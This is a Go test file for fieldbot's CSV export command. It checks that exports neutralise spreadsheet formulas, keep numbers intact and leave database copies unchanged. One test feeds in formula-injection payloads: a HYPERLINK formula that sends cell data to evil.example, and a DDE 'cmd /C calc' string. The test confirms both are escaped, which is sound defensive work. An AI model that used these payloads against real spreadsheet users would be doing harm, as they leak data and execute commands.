package main

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fieldbot/fieldbot"
	"github.com/fieldbot/fieldbot/store"
)

// exportOffice is a config and roster in a temp dir, for the tests of
// commands run in process (export, invite, backup).
func exportOffice(t *testing.T) (dir, cfg string) {
	t.Helper()
	dir = t.TempDir()
	cfg = filepath.Join(dir, "config.toml")
	os.WriteFile(cfg, []byte(fmt.Sprintf(testConfig, "http://127.0.0.1:1")), 0o600)
	os.WriteFile(filepath.Join(dir, "roster.csv"), []byte(testRoster), 0o600)
	return dir, cfg
}

func putSubmissions(t *testing.T, path string, subs ...fieldbot.Submission) {
	t.Helper()
	db, err := store.Open(path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, s := range subs {
		if err := db.Update(context.Background(), func(tx *store.Tx) error { _, err := tx.PutSubmission(s); return err }); err != nil {
			t.Fatal(err)
		}
	}
}

var noEnv = func(string) string { return "" }

// The exported CSV is safe to open in a spreadsheet: a free-text cell that
// Excel would run as a formula is neutralised with an apostrophe, numbers
// (negative ones included) stay numbers, and a byte order mark makes Excel
// read the Vietnamese as UTF-8.
func TestExportIsSafeToOpen(t *testing.T) {
	dir, cfg := exportOffice(t)
	notes := map[string]string{ // phone → note as typed
		"0912345678": `=HYPERLINK("http://evil.example/?x="&A2,"Xem chi tiết")`,
		"0987654321": "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	var subs []fieldbot.Submission
	for i, phone := range []string{"0912345678", "0987654321"} {
		subs = append(subs, fieldbot.Submission{Form: "weekly", Period: fmt.Sprintf("2026-W4%d", i+5), Unit: "kv1", Phone: phone,
			SubmittedAt: time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC),
			Answers:     fieldbot.Answers{"viec_co_dieu_kien": "-5", "viec_xong": "0", "tien_xong": "-1500000.5", "ghi_chu": notes[phone]}})
	}
	for i, note := range []string{"+84 912 345 678 gọi lại", "-2+3", "\t=1+1", "\r=1+1", "-", "-12", "Nguyễn Văn An đã xác minh"} {
		subs = append(subs, fieldbot.Submission{Form: "weekly", Period: fmt.Sprintf("2026-W3%d", i), Unit: "kv1", Phone: "0912345678",
			SubmittedAt: time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC),
			Answers:     fieldbot.Answers{"viec_co_dieu_kien": "7581", "viec_xong": "6300", "tien_xong": "1500000000", "ghi_chu": note}})
	}
	putSubmissions(t, filepath.Join(dir, "data", "fieldbot.db"), subs...)
	out := filepath.Join(dir, "out.csv")
	var msgs strings.Builder
	if err := exportCommand([]string{"-config", cfg, "-form", "weekly", "-o", out}, Env{Getenv: noEnv, Stdout: &msgs, Stderr: &msgs}); err != nil {
		t.Fatalf("export: %v\n%s", err, msgs.String())
	}
	rows := readExport(t, out) // checks the byte order mark
	want := map[string]string{ // note as exported, by period
		"2026-W45": `'=HYPERLINK("http://evil.example/?x="&A2,"Xem chi tiết")`,
		"2026-W46": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"2026-W30": "'+84 912 345 678 gọi lại", "2026-W31": "'-2+3", "2026-W32": "'\t=1+1", "2026-W33": "'\r=1+1",
		"2026-W34": "'-", "2026-W35": "-12", "2026-W36": "Nguyễn Văn An đã xác minh",
	}
	if len(rows) != 1+len(want) {
		t.Fatalf("export has %d rows; want %d:\n%q", len(rows), 1+len(want), rows)
	}
	if rows[0][0] != "form" {
		t.Errorf("header = %q", rows[0])
	}
	for _, r := range rows[1:] {
		if got := r[10]; got != want[r[1]] {
			t.Errorf("note of %s exported as %q; want %q", r[1], got, want[r[1]])
		}
		if r[1] == "2026-W45" && (r[7] != "-5" || r[8] != "0" || r[9] != "-1500000.5") {
			t.Errorf("numbers of %s exported as %q; want -5, 0, -1500000.5 as they are", r[1], r[7:10])
		}
		if r[1] == "2026-W45" && r[4] != "Nguyễn Văn An" {
			t.Errorf("name exported as %q", r[4])
		}
	}
}

// export -db reads a copy without changing a byte of it; a database that
// does not exist is refused, not created; a config whose only database is
// the sandbox's is told where that one is.
func TestExportReadsWithoutChanging(t *testing.T) {
	dir, cfg := exportOffice(t)
	env := Env{Getenv: noEnv, Stdout: &strings.Builder{}, Stderr: &strings.Builder{}}
	copyPath := filepath.Join(dir, "copies", "fieldbot-2026-11-27.db")
	putSubmissions(t, copyPath, fieldbot.Submission{Form: "weekly", Period: "2026-W48", Unit: "kv1", Phone: "0912345678",
		Answers: fieldbot.Answers{"viec_co_dieu_kien": "7581", "viec_xong": "6300", "tien_xong": "1500000000"}})
	before, _ := os.ReadFile(copyPath)
	fi, _ := os.Stat(copyPath)
	var out strings.Builder
	env.Stdout = &out
	if err := exportCommand([]string{"-config", cfg, "-form", "weekly", "-db", copyPath}, env); err != nil {
		t.Fatalf("export -db: %v", err)
	}
	if !strings.Contains(out.String(), "7581") {
		t.Fatalf("export -db:\n%s", out.String())
	}
	after, _ := os.ReadFile(copyPath)
	fi2, _ := os.Stat(copyPath)
	if sha256.Sum256(before) != sha256.Sum256(after) || !fi.ModTime().Equal(fi2.ModTime()) {
		t.Error("export -db changed the copy it read")
	}

	// No database at data_dir: refused, and nothing is created.
	err := exportCommand([]string{"-config", cfg, "-form", "weekly", "-o", filepath.Join(dir, "out.csv")}, env)
	if err == nil || !strings.Contains(err.Error(), filepath.Join(dir, "data", "fieldbot.db")) {
		t.Fatalf("export without a database = %v; want a refusal naming data/fieldbot.db", err)
	}
	for _, p := range []string{filepath.Join(dir, "data"), filepath.Join(dir, "out.csv")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("export without a database created %s", p)
		}
	}

	// Only the sandbox's database: export says where it is.
	sandboxDB := filepath.Join(dir, "data", "sandbox", "fieldbot.db")
	putSubmissions(t, sandboxDB)
	err = exportCommand([]string{"-config", cfg, "-form", "weekly"}, env)
	if err == nil || !strings.Contains(err.Error(), "-db "+sandboxDB) {
		t.Fatalf("export with only the sandbox's database = %v; want it to say -db %s", err, sandboxDB)
	}
	if _, err := os.Stat(filepath.Join(dir, "data", "fieldbot.db")); err == nil {
		t.Error("export created data/fieldbot.db")
	}
	// An empty file in place of the database is refused and left as it is.
	os.WriteFile(filepath.Join(dir, "data", "fieldbot.db"), nil, 0o600)
	err = exportCommand([]string{"-config", cfg, "-form", "weekly"}, env)
	if err == nil || !strings.Contains(err.Error(), "not a fieldbot database") {
		t.Fatalf("export of an empty file = %v", err)
	}
	if fi, _ := os.Stat(filepath.Join(dir, "data", "fieldbot.db")); fi.Size() != 0 {
		t.Error("export changed the empty file")
	}
}

// With no config at all, `fieldbot` is the sandbox, and `fieldbot export`
// reads the sandbox's database (it used to read an empty production one
// it created, and print a header-only CSV).
func TestExportWithNoConfigReadsTheSandbox(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"config.example.toml", "roster.example.csv"} {
		b, err := os.ReadFile(filepath.Join("..", "..", name))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, name), b, 0o600)
	}
	putSubmissions(t, filepath.Join(dir, "data", "sandbox", "fieldbot.db"), fieldbot.Submission{Form: "weekly", Period: "2026-W48",
		Unit: "kv1", Phone: "0912345678", Answers: fieldbot.Answers{"viec_co_dieu_kien": "7581", "ghi_chu": "=1+1"}})
	t.Chdir(dir)
	var out, msgs strings.Builder
	if err := exportCommand([]string{"-form", "weekly"}, Env{Getenv: noEnv, Stdout: &out, Stderr: &msgs}); err != nil {
		t.Fatalf("export with no config: %v\n%s", err, msgs.String())
	}
	if !strings.Contains(out.String(), "7581") || !strings.Contains(out.String(), "'=1+1") {
		t.Errorf("export with no config did not read the sandbox's database:\n%s", out.String())
	}
	if _, err := os.Stat(filepath.Join(dir, "data", "fieldbot.db")); err == nil {
		t.Error("export created data/fieldbot.db")
	}
}
